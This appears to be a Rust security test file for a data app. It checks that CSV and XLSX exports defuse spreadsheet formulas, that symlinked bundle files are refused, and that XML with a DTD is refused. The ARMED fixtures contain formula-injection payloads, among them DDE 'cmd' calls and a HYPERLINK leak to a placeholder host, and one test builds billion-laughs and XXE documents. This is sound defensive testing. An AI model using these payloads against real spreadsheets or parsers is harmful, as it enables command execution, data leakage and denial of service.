//! Security of what the program reads and writes as files (SECURITY.md names the test of each):
//! formulas in CSV exports defused and restored on import, XLSX cells never formulas, bundle
//! files that are links or not regular files refused, XML with a DTD refused.

use super::*;
use counterpart_app::export;
use counterpart_domain::RecordId;
use counterpart_domain::project::Project;
use counterpart_store::Access as _;

/// Titles a spreadsheet would run as formulas, and one that only looks like a defused one.
const ARMED: [&str; 7] = [
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
];

fn armed_projects() -> Records {
    let mut records = demo::published_bundle().unwrap().records;
    let template = demo_records().projects[0].clone();
    for (i, title) in ARMED.iter().enumerate() {
        records.projects.push(Project {
            id: RecordId::parse(&format!("formula.{i}")).unwrap(),
            title_en: (*title).to_owned(),
            title_zh: format!("{title}中"),
            ..template.clone()
        });
    }
    records
}

/// Every exported CSV cell that starts like a formula is quoted; the bundle imports back to the
/// same titles; a report's text cells are quoted and its numbers left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_defuse_formulas_and_bundles_read_them_back() {
    let dir = tempfile::tempdir().unwrap();
    let records = armed_projects();
    let store = store_with(dir.path(), &records).await;
    let mut bytes = Vec::new();
    export::table_csv(&store, export::table("projects").unwrap(), &mut bytes)
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let mut quoted = 0;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "an armed cell: {cell:?}"
            );
            quoted += usize::from(cell.starts_with('\''));
        }
    }
    assert_eq!(
        quoted,
        2 * ARMED.len(),
        "each armed title, in English and Chinese"
    );

    let bundle = dir.path().join("bundle");
    export::bundle(&store, &bundle).await.unwrap();
    let again = tempfile::tempdir().unwrap();
    let target = SqliteStore::open(&again.path().join("counterpart.db"))
        .await
        .unwrap();
    import::import_dir(&target, &bundle, &|_| {}).await.unwrap();
    for (i, title) in ARMED.iter().enumerate() {
        let project = target
            .project(&RecordId::parse(&format!("formula.{i}")).unwrap())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(project.title_en, *title, "read back as written");
        assert_eq!(project.title_zh, format!("{title}中"));
    }

    use counterpart_app::report::Section;
    let report = Report {
        report: "test",
        title: "t".into(),
        program: "p".into(),
        notes: Vec::new(),
        sections: vec![Section {
            key: "s",
            title: "s".into(),
            columns: vec![
                report::col("name", "name", None),
                report::col("note", "note", None),
                report::col("change", "change", None),
            ],
            rows: vec![vec![
                Cell::Text("=1+1".into()),
                Cell::Text("@A1".into()),
                Cell::Int(-5),
            ]],
        }],
    };
    let mut out = Vec::new();
    report::write_csv(&report, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(text.contains("s,'=1+1,note,'@A1,"), "{text}");
    assert!(
        text.contains("s,'=1+1,change,-5,"),
        "numbers stay numbers: {text}"
    );
}

/// The XLSX export writes armed titles as string cells: the sheet holds no formula at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xlsx_cells_are_strings_never_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_with(dir.path(), &armed_projects()).await;
    let path = dir.path().join("projects.xlsx");
    export::table_xlsx(&store, export::table("projects").unwrap(), &path)
        .await
        .unwrap();
    let mut archive = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut xml = String::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().into_owned();
        if name.starts_with("xl/") && name.ends_with(".xml") {
            std::io::Read::read_to_string(&mut file, &mut xml).unwrap();
        }
    }
    assert!(xml.contains("HYPERLINK"), "the titles are in the workbook");
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "a formula cell"
    );
}

/// A bundle file that is a symbolic link (here to a good file elsewhere) or a directory is
/// refused by name, and nothing is written.
#[tokio::test]
async fn bundle_files_must_be_regular_files() {
    let outside = tempfile::tempdir().unwrap();
    let good = outside.path().join("projects.csv");
    std::fs::write(
        &good,
        projects_csv(&[project_row(
            "p.link",
            "shanghai",
            "kashgar.shache-county",
            "100",
        )]),
    )
    .unwrap();
    let f = fixture().await;
    std::os::unix::fs::symlink(&good, f.bundle.join("projects.csv")).unwrap();
    std::fs::create_dir(f.bundle.join("transfers.csv")).unwrap();
    let before = std::fs::read(&f.db).unwrap();
    let store = SqliteStore::open(&f.db).await.unwrap();
    let message = import::import_dir(&store, &f.bundle, &|_| {})
        .await
        .expect_err("refused")
        .to_string();
    store.close().await.unwrap();
    assert!(
        message.contains("projects.csv: refused: a symbolic link"),
        "{message}"
    );
    assert!(
        message.contains("transfers.csv: refused: a directory"),
        "{message}"
    );
    assert_eq!(
        before,
        std::fs::read(&f.db).unwrap(),
        "the database changed"
    );
}

/// IATI files declaring a DTD are refused before any entity is read or expanded: a billion
/// laughs, an external entity naming a local file, and a bare DOCTYPE; nothing is written.
#[tokio::test]
async fn xml_with_a_dtd_is_refused() {
    use counterpart_app::iati::import::import_files;
    let f = fixture().await;
    let secret = f.bundle.join("secret.txt");
    std::fs::write(&secret, "TOP SECRET").unwrap();
    let body = r#"<iati-activities version="2.03"><iati-activity><iati-identifier>&x;</iati-identifier></iati-activity></iati-activities>"#;
    let laughs = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY a \"lol\">\n{}<!ENTITY x \"&i;&i;\">\n]>\n{body}",
        (b'b'..=b'i')
            .map(|c| {
                let prev = (c - 1) as char;
                format!(
                    "<!ENTITY {} \"{}\">\n",
                    c as char,
                    format!("&{prev};").repeat(10)
                )
            })
            .collect::<String>()
    );
    let external = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY x SYSTEM \"file://{}\">]>\n{body}",
        secret.display()
    );
    let bare = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE iati-activities>\n{}",
        body.replace("&x;", "CN-1")
    );
    let before = std::fs::read(&f.db).unwrap();
    for (name, text) in [("laughs", laughs), ("external", external), ("bare", bare)] {
        let path = f.bundle.join(format!("{name}.xml"));
        std::fs::write(&path, &text).unwrap();
        let store = SqliteStore::open(&f.db).await.unwrap();
        let message = import_files(&store, &[path.as_path()], &|_| {})
            .await
            .expect_err("refused")
            .to_string();
        store.close().await.unwrap();
        assert!(
            message.contains("refused: the file declares a DTD"),
            "{name}: {message}"
        );
        assert!(
            message.contains(&format!("{name}.xml:")),
            "{name}: names the file"
        );
        assert!(!message.contains("TOP SECRET"), "{name}: read the file");
        assert_eq!(
            before,
            std::fs::read(&f.db).unwrap(),
            "{name}: the database changed"
        );
    }
}
